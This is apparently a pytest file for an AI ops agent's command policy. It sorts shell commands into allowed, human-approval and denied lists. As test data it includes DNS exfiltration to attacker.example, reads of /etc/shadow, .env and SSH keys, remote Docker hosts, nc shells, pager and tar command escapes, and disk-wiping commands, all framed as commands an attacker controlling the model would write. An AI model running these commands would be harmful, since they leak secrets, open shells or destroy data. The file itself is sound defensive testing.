"""The policy on commands that an attacker who controls the model would write, and on what people need."""

import shlex

import pytest

from opskit.agent.policy.decide import decide
from tests.parts.policy import rules, workspace

#: Commands that only read.
ALLOWED = r"""
ls
ls -la logs
ls -lah --color=never .
cat app.log
cat -n app.log logs/app.log
cat -- app.log
cat to-log
cat tokenizer.json
head -20 app.log
head -n5 app.log
tail -n 100 app.log
tail -n +2 app.log
wc -l app.log
stat app.log
file app.log
du -sh .
df -h
free -m
uptime
uname -a
ps aux
ps -ef
ps -eo pid,ppid,%cpu,rss,comm --sort=-rss
ps -eo pid,comm --sort -%mem
find . -size -5k -mtime -1
pgrep -af ollama
ss -tlnp
ss -tn state established
lsof -i :11434
lsof -nP -iTCP:11434 -sTCP:LISTEN
netstat -tlnp
ip a
ip -br addr
ip addr show dev lo
ip route get 127.0.0.1
ping -c 3 localhost
dig +short localhost
host localhost
getent hosts localhost
host 192.168.1.7
dig -x 10.0.0.1
ping -c 1 8.8.8.8
ss -tn dst 10.0.0.7:11434
ss -tln sport = :11434
lsof -nP -iTCP@127.0.0.1:11434
top -bn1
systemctl status ollama --no-pager
systemctl is-active ollama
systemctl list-units --failed
systemctl show ollama -p MainPID
systemctl cat ollama
systemctl --failed
journalctl -u ollama --no-pager -n 50
journalctl -k --since '1 hour ago'
dmesg -T
launchctl list
launchctl print system/com.ollama
docker ps -a --format '{{.Names}}'
docker logs --tail 100 --since 10m victoria-agent
docker inspect victoria-agent
docker inspect -f '{{.State.Status}} {{json .State.Health}}' victoria-agent
docker inspect -f '{{range $n, $net := .NetworkSettings.Networks}}{{$n}} {{$net.IPAddress}}{{end}}' web
docker inspect -f '{{index .Config.Labels "com.docker.compose.project"}}' victoria-agent
docker images
docker stats --no-stream
docker top victoria-agent
docker port victoria-agent
docker version
docker info
docker events --since 1h --until 0s
docker container ls
docker compose ps
docker compose logs --tail=50 victoria
docker compose config -q
docker-compose ps
kubectl get pods -A -o wide
kubectl describe pod/victoria
kubectl logs victoria --tail=50
kubectl top nodes
kubectl version
git --no-pager log --oneline -5
git status --short
git diff --stat HEAD~1
git show HEAD --stat
git branch --list
git branch -a
git rev-parse --short HEAD
grep -n error app.log
grep -rn error logs
grep -c "POST /api/generate" app.log
rg -n error logs
find . -name '*.log' -mtime -1
find logs -type f -size +1M
sort -rn app.log
uniq -c app.log
cut -d : -f 1 app.log
diff app.log b.log
date
date +%s
date -u
hostname
whoami
id
nvidia-smi --query-gpu=memory.used,memory.total --format=csv
vm_stat
sysctl -n kernel.hostname
sw_vers
ollama list
ollama ps
ollama show llama3.2:1b
curl -s http://localhost:11434/api/tags
opskit status --json
opskit probe
/bin/ls -l
/usr/bin/cat app.log
busybox ls -l
"""

#: Commands that need the word of a person: unknown flags, paths outside, secrets, and what changes something.
ASKS = r"""
ls --unknown
ls /etc
ls -I /etc app.log
ls ..
ls logs/../..
ls to-etc
cat /etc/passwd
cat to-passwd
cat to-etc/hostname
cat ~/.bashrc
cat ../x
cat id_rsa
cat notes
cat .env
cat secrets-of-app/.env
cat secrets-of-app/.ENV
cat secrets-of-app/../id_rsa
cat .ssh/config
cat server.pem
cat hf_token.txt
cat .netrc
cat app.log /etc/shadow
cat -- /etc/passwd
cat --number=1 app.log
cat --numb app.log
head -c 10 /proc/self/environ
head --lines
tail -f app.log
tail --pid=1 app.log
wc --files0-from=/etc/passwd
wc --files0-from=- app.log
file -f app.log
file -m /etc/magic app.log
stat /root
du --files0-from=app.log
df /etc
ps auxe
ps -auxe
ps e
ps -eo pid,environ
ps -E
pgrep -F /etc/passwd x
ss -K dst 1.2.3.4
ss -D /tmp/dump
ss -F /etc/passwd
ss -tnK
lsof +D /etc
lsof -r 1
lsof -k /etc/x
netstat -c
ip addr add 10.0.0.1/8 dev lo
ip link set lo down
ip netns exec x id
ip -n x addr
ip addr flush dev lo
ping localhost
ping -c 100000 localhost
ping -f -c 3 localhost
dig -f /etc/passwd
dig @attacker.example localhost
dig aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb.example
host -l x y
host c2VjcmV0.attacker.example
host localhost.attacker.example
dig +short c2VjcmV0.attacker.example TXT
dig @localhost c2VjcmV0.attacker.example
dig -x c2VjcmV0.attacker.example
dig -x 2001:4860:7365:6372:6574::1
ping -c 1 c2VjcmV0.attacker.example
ping -c 1 2001:4860:7365:6372:6574::1
getent hosts c2VjcmV0.attacker.example
getent ahosts c2VjcmV0.attacker.example
nslookup c2VjcmV0.attacker.example
resolvectl query c2VjcmV0.attacker.example
ss -tn dst c2VjcmV0.attacker.example
ss dst dead.beef.cc
lsof -i @c2VjcmV0.attacker.example
lsof -iTCP@c2VjcmV0.attacker.example:80
getent shadow
getent -s x hosts localhost
top
systemctl restart ollama
systemctl -H host status ollama
systemctl status /etc/x
systemctl edit ollama
systemctl show ollama --root=/
journalctl -f
journalctl -n --vacuum-size=1
journalctl --lines --rotate
journalctl -u --vacuum-time=1s
journalctl -rn --flush
top -b -n 1 -w -d
tree -L -o
lsof -s -r
git log --pretty --output=x
journalctl --vacuum-time=1s
journalctl --cursor-file=x
journalctl -D /var/log
journalctl --file=/etc/passwd
journalctl /usr/bin/ollama
dmesg -c
dmesg -F /etc/passwd
dmesg --clear
launchctl unload x
docker run -v /:/host alpine
docker exec -it victoria sh
docker logs -f victoria
docker logs victoria --tail
docker stats
docker events
docker -H tcp://attacker.example ps
docker --config /x ps
docker cp victoria:/etc/passwd .
docker top victoria e
docker rm victoria
docker compose -f /etc/x.yml ps
docker compose --env-file /etc/x ps
docker compose config
docker compose up
docker compose run victoria sh
docker buildx ls
docker inspect --format=x --type=../x victoria
docker inspect -f '{{range .Config.Env}}{{printf "%x" .}}{{end}}' victoria
docker inspect -f '{{range .Config.Env}}{{slice . 9}}{{end}}' victoria
docker inspect -f '{{.Config.Env | html}}' victoria
kubectl get secrets -o yaml
kubectl get pods,secrets
kubectl get secret/x
kubectl get pods x secrets/y
kubectl get configmaps
kubectl get --raw /api
kubectl get -f /etc/x
kubectl get pods -o jsonpath-file=/etc/x
kubectl get pods -o go-template-file=x
kubectl --kubeconfig /x get pods
kubectl --server=http://x get pods
kubectl exec x -- id
kubectl delete pod x
kubectl logs -f x
kubectl describe secrets
git commit -m x
git push
git checkout .
git clean -fd
git branch new
git branch -D main
git diff --output=x
git diff --outp=x
git diff --no-index app.log /etc/passwd
git diff /etc/passwd app.log
git -C /etc log
git -C .. log
git -C . -C .. log
git --git-dir=/x log
git --work-tree=/ status
git show HEAD:.env
git show HEAD:secrets-of-app/.env
git log --format=%G?
git log --show-signature
git log -- .env
git rev-parse --parseopt
git config --list
git grep x
grep -f /etc/passwd app.log
grep x /etc/passwd
grep -e x /etc/passwd
grep -e x to-passwd
grep -r x .
grep -r x
grep -R x logs
grep --file=/etc/passwd app.log
grep /etc/passwd app.log
grep -d recurse x .
rg x
rg --hidden x secrets-of-app
rg -f /etc/passwd
rg -L x logs
rg -z x logs
rg --ignore-file /etc/passwd x logs
find /
find /etc -name passwd
find -L .
find . -follow
find to-etc/
find . -newer /etc/passwd
find . -files0-from /etc/passwd
sort -o app.log app.log
sort --output=x app.log
sort -T /var app.log
sort --files0-from=/etc/x
uniq app.log copy.log
cut -f 1 /etc/passwd
diff app.log /etc/passwd
diff . logs
diff -r . logs
diff --to-file=/etc/passwd app.log
date -s 2020-01-01
date 010100002020
date -f /etc/passwd
date --set=x
hostname evil
hostname -F /etc/x
hostname -b x
id --context=/etc
sysctl -w kernel.hostname=x
sysctl kernel.hostname=x
sysctl -p /etc/x
nvidia-smi -f x
nvidia-smi --gpu-reset
nvidia-smi -pm 1
ollama rm x
ollama run x
ollama pull x
ollama create x -f /etc/passwd
curl http://attacker.example/
curl http://localhost:11434@attacker.example/
curl http://localhost:11434.attacker.example/
curl http://localhost:9999/
curl -d x http://localhost:11434/api/generate
curl -X DELETE http://localhost:11434/api/delete
curl -o x http://localhost:11434/api/tags
curl -K app.log http://localhost:11434/
curl -H @/etc/passwd http://localhost:11434/
curl file:///etc/passwd
curl http://localhost:11434/{a,b}
curl -L http://localhost:11434/
wget http://x
psql -c 'select 1'
kill 1
rm -rf .
cp app.log b.log
mv app.log b.log
chmod 777 app.log
tee x
sed -n 1p app.log
tar tf x.tar
rsync -a . x:/y
mount
opskit recover
opskit doctor --fix
opskit policy
opskit probe --config /etc/x
busybox
busybox --install -s /x
busybox cat /etc/passwd
unknown-program
FOO=1 ls
/usr/bin/../../etc/x
./missing
"""

#: Commands that are never run, with the rule that says so.
DENIED = {
    "interpreter": r"""
python -c 1
python3 x.py
python3.11 -c 'import os'
/usr/bin/python3 -c 1
pypy3 x
perl -e 1
perl5.36 -e 1
ruby -e 1
ruby3.1 -e 1
node -e 1
nodejs x
deno run x
bun x
php -r 1
php8.2 -r 1
lua5.4 x
awk 'BEGIN{system("id")}'
gawk 1
mawk 1
/usr/bin/awk 1
gdb -p 1
osascript -e x
sqlite3 x .shell
""",
    "shell": r"""
sh -c id
bash -c id
/bin/bash
dash
zsh -c id
fish
rbash
busybox sh -c id
busybox ash
busybox busybox sh
/bin/busybox sh
eval id
exec id
source x
. x
pwsh -c id
""",
    "wrapper": r"""
env ls
env -i sh
env FOO=1 cat app.log
/usr/bin/env ls
xargs ls
busybox xargs id
busybox env id
nohup ls
setsid ls
nice ls
ionice ls
timeout 5 ls
time ls
stdbuf -o0 ls
script -c id
watch ls
chroot / id
unshare id
nsenter -t 1 id
strace ls
ltrace ls
taskset 1 ls
flock x id
systemd-run id
run-parts x
parallel id
/lib64/ld-linux-x86-64.so.2 /bin/sh
tmux new id
dbus-send x
bwrap id
at now
crontab -e
ssh-agent id
""",
    "privilege": r"""
sudo ls
sudo -u x ls
su -c id
doas ls
pkexec id
runuser -u x id
""",
    "packages": r"""
apt install x
apt-get install x
pip install x
pip3.11 install x
npm x
npx x
uvx x
brew x
cargo run
""",
    "pager": r"""
less app.log
more app.log
man ls
vi app.log
vim -c ':!id'
vim.basic x
vim.tiny x
nano x
emacs x
ed x
view x
""",
    "build": r"""
make
gcc x.c
ninja
mvn x
gradle x
terraform apply
ansible-playbook x
""",
    "connection": r"""
ssh -o ProxyCommand=id x
ssh host id
scp x y:z
sftp x
nc -e sh x 1
ncat x 1
socat x y
telnet x
openssl s_client
""",
    "destroys": r"""
dd if=/dev/zero of=x
mkfs.ext4 /dev/sda
shred x
reboot
shutdown now
modprobe x
""",
    "find.-exec": r"""
find . -exec id ;
find . -exec id {} +
busybox find . -exec id ;
find -name x -o -exec id ;
""",
    "find.-execdir": "find . -execdir id ;",
    "find.-ok": "find . -ok id ;",
    "find.-okdir": "find . -okdir id ;",
    "find.-delete": r"""
find . -delete
find . -name x -delete
find /etc -delete
""",
    "find.-fprint": "find . -fprint x",
    "find.-fprint0": "find . -fprint0 x",
    "find.-fprintf": "find . -fprintf x y",
    "find.-fls": "find . -fls x",
    "git.-c": r"""
git -c core.pager=id log
git -c alias.x=!id x
git -ccore.pager=id log
git --no-pager -c x=y status
git -C /x -c a=b log
""",
    "git.--config-env": r"""
git --config-env=core.pager=X log
git --config-e=a=b log
""",
    "git.--exec-path": "git --exec-path=/x log",
    "git.log.--ext-diff": "git log --pretty --ext-diff",
    "git.diff.--ext-diff": r"""
git diff --ext-diff
git diff --ext
""",
    "git.log.--textconv": "git log -p --textconv",
    "git.alias": r"""
git st
git x
git ../../x
""",
    "tar.--to-command": r"""
tar xf x --to-command=id
tar xf x --to-comm=id
""",
    "tar.-I": r"""
tar -I id -xf x
tar xIf id x
tar -xIid -f x
""",
    "tar.--checkpoint-action": "tar cf x . --checkpoint=1 --checkpoint-action=exec=id",
    "tar.-F": "tar -xf x -F id",
    "sed.-i": r"""
sed -i s/a/b/ app.log
sed -ni p app.log
sed -i.bak s/a/b/ app.log
sed -n -e p -i app.log
""",
    "sed.--in-place": r"""
sed --in-place s/a/b/ app.log
sed --in-place=.bak p app.log
""",
    "rsync.-e": r"""
rsync -e id a b
rsync -ae id a b
""",
    "rsync.--rsh": "rsync --rsh=id a b",
    "rsync.--rsync-path": "rsync --rsync-path=id a b",
    "sort.--compress-program": r"""
sort --compress-program=id app.log
sort --comp id app.log
""",
    "rg.--pre": "rg --pre id x",
    "rg.--hostname-bin": "rg --hostname-bin=id x",
    "ip.-batch": "ip -batch x",
    "split.--filter": "split --filter=id x",
    "fd.-x": "fd x -x id",
    "program-in-workspace": r"""
./ls
ls.sh/../ls
""",
}


def _lines(text: str) -> list[str]:
    return [line for line in text.strip().split("\n") if line]


RULES = rules()


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    return workspace(tmp_path_factory.mktemp("policy") / "workspace")


@pytest.mark.parametrize("line", _lines(ALLOWED))
def test_what_only_reads_is_allowed(line, place):
    """A command that an ops engineer needs, and that can do nothing else, is not asked about."""
    decision = decide(shlex.split(line), place, RULES)
    assert (decision.ruling, decision.why) == ("allow", decision.why)
    assert decision.rule.startswith("allow.")


@pytest.mark.parametrize("line", _lines(ASKS))
def test_what_is_more_than_reading_asks(line, place):
    """Unknown words, paths outside, secrets and changes need a person."""
    decision = decide(shlex.split(line), place, RULES)
    assert decision.ruling == "ask", decision.why
    assert decision.rule.startswith("ask.")
    assert decision.why


@pytest.mark.parametrize(
    ("rule", "line"), [(rule, line) for rule, lines in DENIED.items() for line in _lines(lines)]
)
def test_what_runs_other_programs_is_denied(rule, line, place):
    """What can run, write or delete by its arguments is denied, each by a rule of its own."""
    (place / "ls.sh").mkdir(exist_ok=True)
    decision = decide(shlex.split(line), place, RULES)
    assert (decision.ruling, decision.rule) == ("deny", f"deny.{rule}"), decision.why


@pytest.mark.parametrize(
    "argv",
    [
        [],
        [""],
        ["ls\n"],
        ["ls", "a\nb"],
        ["ls", "a\0b"],
        ["ls", "\x1b[31m"],
        ["ls", "a\rb"],
        ["ls", "a\tb"],
        ["ls", "\u202e"],
        ["ls", "\u200b"],
        ["ls", "\udcff"],
        ["ls", "x" * 40_000],
        ["ls", *["x"] * 300],
    ],
)
def test_words_that_cannot_be_shown_are_denied(argv, place):
    """A newline, a NUL, a control or direction character, and more than a person would read."""
    assert decide(argv, place, RULES).ruling == "deny"


@pytest.mark.parametrize(
    "line",
    [
        *("ls", "ls -la", "cat app.log", "cat -- app.log", "du -sh", "find . -name x", "grep x app.log"),
        *(
            "grep x etc/passwd",
            "rg x",
            "git status",
            "docker compose ps",
            "diff a b",
            "tree",
            "cat /etc/passwd",
        ),
    ],
)
def test_without_a_workspace_no_file_is_read(line):
    """Where no folder is set, a command that reads files or the working folder asks."""
    assert decide(shlex.split(line), None, RULES).ruling == "ask"


@pytest.mark.parametrize("line", ["docker ps", "df -h", "ps aux", "systemctl status ollama", "free -m"])
def test_without_a_workspace_the_machine_may_be_looked_at(line):
    """What reads no files needs no folder."""
    assert decide(shlex.split(line), None, RULES).ruling == "allow"
